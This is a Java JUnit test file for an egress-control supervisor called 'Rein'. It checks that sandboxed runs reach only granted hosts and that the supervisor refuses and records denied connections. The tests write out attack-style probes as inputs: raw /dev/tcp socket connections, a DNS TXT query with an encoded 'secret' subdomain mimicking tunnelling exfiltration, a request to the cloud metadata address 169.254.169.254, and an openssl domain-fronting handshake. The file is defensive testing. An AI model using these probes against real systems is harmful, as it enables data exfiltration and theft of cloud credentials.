package rein.scenarios;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import rein.server.api.RecordView;

/** What is granted arrives whole; what is not does not arrive at all, and says why. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
final class EgressTest {
    /** Says what is on its standard input to a host and port, and prints the answer. */
    private static final String SAY =
            "say() { exec 3<>/dev/tcp/$1/$2; cat >&3; timeout 10 cat <&3; exec 3>&-; }; ";

    private static final String PROXY = "say 127.0.0.1 3128";

    private final Running node = Running.prepare();

    @BeforeAll
    void start() {
        Facilities.forRuns();
        node.up();
    }

    @AfterAll
    void stop() {
        node.close();
    }

    private List<String> granting(String agent, Upstream upstream) throws IOException {
        Path policy = Files.writeString(node.work().resolve(agent + ".cedar"), upstream.grant());
        return List.of("--agent", agent, "--label", "job=" + agent, "--policy", policy.toString());
    }

    private String told(List<String> options, String script) {
        return node.run(options, SAY + script).ok().out();
    }

    @Test
    void aGrantedUpstreamIsReachedTransparentlyAndThroughTheProxy() throws IOException {
        try (Upstream upstream = new Upstream(Facilities.ownAddress())) {
            List<String> options = granting("granted", upstream);
            String authority = upstream.authority();
            String direct =
                    told(
                            options,
                            "printf 'GET /direct HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' | say %s %d"
                                    .formatted(authority, upstream.host(), upstream.port()));
            assertThat(direct).startsWith("HTTP/1.1 200 ").endsWith("\r\n\r\n" + Upstream.BODY);
            String forward =
                    told(
                            options,
                            "printf 'GET http://%1$s/forward HTTP/1.1\\r\\nHost: %1$s\\r\\nConnection: close\\r\\n\\r\\n' | %2$s"
                                    .formatted(authority, PROXY));
            assertThat(forward).startsWith("HTTP/1.1 200 ").endsWith("\r\n\r\n" + Upstream.BODY);
            String tunnel =
                    told(
                            options,
                            "printf 'CONNECT %1$s HTTP/1.1\\r\\nHost: %1$s\\r\\n\\r\\nGET /tunnel HTTP/1.1\\r\\nHost: %1$s\\r\\nConnection: close\\r\\n\\r\\n' | %2$s"
                                    .formatted(authority, PROXY));
            assertThat(tunnel).contains("HTTP/1.1 200 ").endsWith("\r\n\r\n" + Upstream.BODY);
            assertThat(upstream.requests())
                    .containsExactly(
                            "GET /direct HTTP/1.1",
                            "GET /forward HTTP/1.1",
                            "GET /tunnel HTTP/1.1");

            List<RecordView> decisions = node.records("kind=decision&agent=granted");
            assertThat(decisions)
                    .extracting(record -> record.detail().get("route"))
                    .contains("transparent", "forward", "connect");
            assertThat(decisions)
                    .allMatch(record -> record.decision().equals(Optional.of("allow")));
            assertThat(decisions)
                    .anyMatch(record -> record.policies().contains("granted.cedar#test-upstream"));
            assertThat(node.records("kind=flow&agent=granted"))
                    .anySatisfy(flow ->
                            assertThat(flow.sizes().get("received-bytes"))
                                    .isGreaterThan(Upstream.BODY.length()));
        }
    }

    @Test
    void aSecondRequestOnTheConnectionIsCheckedToo() throws IOException {
        try (Upstream upstream = new Upstream(Facilities.ownAddress())) {
            List<String> options = granting("keepalive", upstream);
            String first = "GET http://%1$s/first HTTP/1.1\\r\\nHost: %1$s\\r\\n\\r\\n";
            String second =
                    "GET http://elsewhere.example/second HTTP/1.1\\r\\nHost: elsewhere.example\\r\\nConnection: close\\r\\n\\r\\n";
            String proxied =
                    told(
                            options,
                            ("printf '" + first + second + "' | " + PROXY)
                                    .formatted(upstream.authority()));
            assertThat(proxied)
                    .startsWith("HTTP/1.1 200 ")
                    .contains(Upstream.BODY + "HTTP/1.1 403 ")
                    .contains("elsewhere.example");
            String direct =
                    told(
                            options,
                            "printf 'GET /one HTTP/1.1\\r\\nHost: %1$s\\r\\n\\r\\nGET /two HTTP/1.1\\r\\nHost: elsewhere.example\\r\\nConnection: close\\r\\n\\r\\n' | say %2$s %3$d"
                                    .formatted(
                                            upstream.authority(),
                                            upstream.host(),
                                            upstream.port()));
            assertThat(direct).contains(Upstream.BODY + "HTTP/1.1 403 ");
            assertThat(upstream.requests())
                    .containsExactly("GET /first HTTP/1.1", "GET /one HTTP/1.1");
            assertThat(node.records("kind=decision&agent=keepalive&decision=deny"))
                    .hasSize(2)
                    .allSatisfy(record -> assertThat(record.reasons()).isNotEmpty());
        }
    }

    @Test
    void aDeniedNameIsExplained() {
        String denied =
                told(
                        List.of("--agent", "denied"),
                        "printf 'CONNECT denied.example:443 HTTP/1.1\\r\\nHost: denied.example:443\\r\\n\\r\\n' | "
                                + PROXY);
        assertThat(denied).startsWith("HTTP/1.1 403 ").contains("denied.example");
        RecordView record = node.records("agent=denied&decision=deny").getFirst();
        assertThat(record.resource()).contains("denied.example:443");
        // The body names the record that proves it.
        assertThat(denied).contains(record.id());
    }

    @Test
    void withoutAGrantNotEvenASynLeaves() throws IOException {
        try (Upstream upstream = new Upstream(Facilities.ownAddress())) {
            String answer =
                    told(
                            List.of("--agent", "ungranted"),
                            "printf 'GET / HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' | say %s %d"
                                    .formatted(
                                            upstream.authority(),
                                            upstream.host(),
                                            upstream.port()));
            assertThat(answer).startsWith("HTTP/1.1 403 ");
            assertThat(upstream.connections()).isZero();
        }
    }

    @Test
    void aGrantOfAnotherPortOpensNothing() throws IOException {
        try (Upstream granted = new Upstream(Facilities.ownAddress());
                Upstream other = new Upstream(Facilities.ownAddress())) {
            String answer =
                    told(
                            granting("neighbour", granted),
                            "printf 'GET / HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' | say %s %d"
                                    .formatted(other.authority(), other.host(), other.port()));
            assertThat(answer).startsWith("HTTP/1.1 403 ");
            assertThat(other.connections()).isZero();
        }
    }

    @Test
    void reinsOwnPortIsRefusedEvenWhenGranted() throws IOException {
        String own = Facilities.ownAddress().getHostAddress();
        Path policy =
                Files.writeString(
                        node.work().resolve("own.cedar"),
                        "permit (principal, action == Action::\"network:connect\", resource == Host::\"%s\");"
                                .formatted(own));
        // Reaching for the supervisor by name is no accident: the run is suspended, so nothing
        // waits for its end.
        String script =
                SAY
                        + "echo begins; printf 'GET /v1/status HTTP/1.1\\r\\nHost: %1$s:%2$d\\r\\n\\r\\n' | say %1$s %2$d"
                                .formatted(own, node.port());
        try (Contained run =
                Contained.start(node, "curious", List.of("--policy", policy.toString()), script)) {
            Await.until(
                    "the attempt is denied",
                    () -> !node.records("agent=curious&decision=deny").isEmpty());
            assertThat(node.records("agent=curious&decision=deny").getFirst().reasons().getFirst())
                    .contains("Rein's own listeners");
            Await.until(
                    "the attempt is found",
                    () -> !node.records("agent=curious&kind=finding").isEmpty());
            assertThat(run.out()).doesNotContain("HTTP/1.1 200");
        }
    }

    @Test
    void aHandshakeForAnotherNameIsRefused() {
        Facilities.program("openssl");
        String shake =
                "timeout 10 openssl s_client -connect a.example:443 -servername front.example";
        for (String through : List.of("", " -proxy 127.0.0.1:3128")) {
            Binary.Done done =
                    node.run(
                            List.of("--agent", "fronting", "--policy", "observe"),
                            shake + through + " </dev/null 2>&1");
            assertThat(done.code()).as("%s", done).isNotIn(0, 124);
            assertThat(done.out()).contains("access denied");
        }
        assertThat(node.records("agent=fronting&decision=deny&kind=decision"))
                .hasSize(2)
                .allSatisfy(record ->
                        assertThat(record.reasons().getFirst())
                                .contains("front.example", "a.example"));
    }

    @Test
    void namesAreAnsweredByUsAndNothingElseIsAsked() {
        Facilities.program("perl");
        // A TXT query by hand: header, one question, class IN; prints the answer's RCODE and count.
        String query =
                """
                perl -MIO::Socket::INET -e '
                  my ($name, $type) = @ARGV;
                  open(my $conf, "<", "/etc/resolv.conf"); my ($server) = map { /^nameserver (\\S+)/ ? $1 : () } <$conf>;
                  my $s = IO::Socket::INET->new(PeerAddr => $server, PeerPort => 53, Proto => "udp") or die "none: $!";
                  my $q = pack("n6", 7, 0x0100, 1, 0, 0, 0) . join("", map { pack("C/a*", $_) } split(/\\./, $name)) . pack("Cn2", 0, $type, 1);
                  $s->send($q); $SIG{ALRM} = sub { print "silence\\n"; exit }; alarm 3; $s->recv(my $a, 512);
                  my @h = unpack("n6", $a); printf "rcode %d answers %d\\n", $h[1] & 15, $h[3];'\
                """
                        + " ";
        String script =
                query
                        + "c2VjcmV0.tunnel.example 16; "
                        + query
                        + "host.example 1; "
                        + query
                        + "host.example 28";
        List<String> answers = told(List.of("--agent", "dns"), script).lines().toList();
        assertThat(answers).hasSize(3);
        assertThat(answers.get(0)).doesNotContain("rcode 0 answers 1");
        assertThat(answers.get(1)).isEqualTo("rcode 0 answers 1");
        assertThat(answers.get(2)).isEqualTo("rcode 0 answers 0");
        assertThat(node.records("agent=dns&kind=name-lookup")).isNotEmpty();
    }

    @Test
    void metadataAndIpv6LeadNowhere() {
        String answer =
                told(
                        List.of("--agent", "prober", "--policy", "observe"),
                        "printf 'GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\nConnection: close\\r\\n\\r\\n' | say 169.254.169.254 80;"
                                + " (exec 4<>/dev/tcp/2001:db8::1/80) 2>&1 && echo OPEN; true");
        assertThat(answer)
                .startsWith("HTTP/1.1 403 ")
                .doesNotContain("OPEN")
                .contains("2001:db8::1");
        assertThat(node.records("agent=prober&destination=169.254.169.254"))
                .isNotEmpty()
                .allMatch(record -> !record.decision().equals(Optional.of("allow")));
        // One probe is what cloud SDKs do; it is a finding at most, not a stop.
        assertThat(node.newest("prober").orElseThrow().state()).isEqualTo("ended");
        assertThat(node.records("kind=stop-ordered&agent=prober")).isEmpty();
    }

    @Test
    void aFirewallsLineLeadsToTheRunAndItsOwner() throws IOException {
        try (Upstream upstream = new Upstream(Facilities.ownAddress())) {
            told(
                    granting("seen", upstream),
                    "printf 'GET /seen HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' | say %s %d"
                            .formatted(upstream.authority(), upstream.host(), upstream.port()));
            String at = node.records("agent=seen&kind=decision").getFirst().time();
            String run = node.newest("seen").orElseThrow().shortId();
            String found =
                    node.rein("activity", "--destination", upstream.authority(), "--at", at)
                            .ok()
                            .out();
            assertThat(found.lines())
                    .anyMatch(line ->
                            line.contains("seen/" + run)
                                    && line.contains("owner root")
                                    && line.contains("job=seen"));
            Binary.Done none =
                    node.rein(
                            "activity",
                            "--destination",
                            upstream.authority(),
                            "--at",
                            "2020-01-01T00:00:00Z");
            assertThat(none.exits(1).err()).contains("Nothing recorded matches");
            assertThat(node.rein("activity", "--at", "yesterday").refused()).contains("yesterday");
        }
    }
}
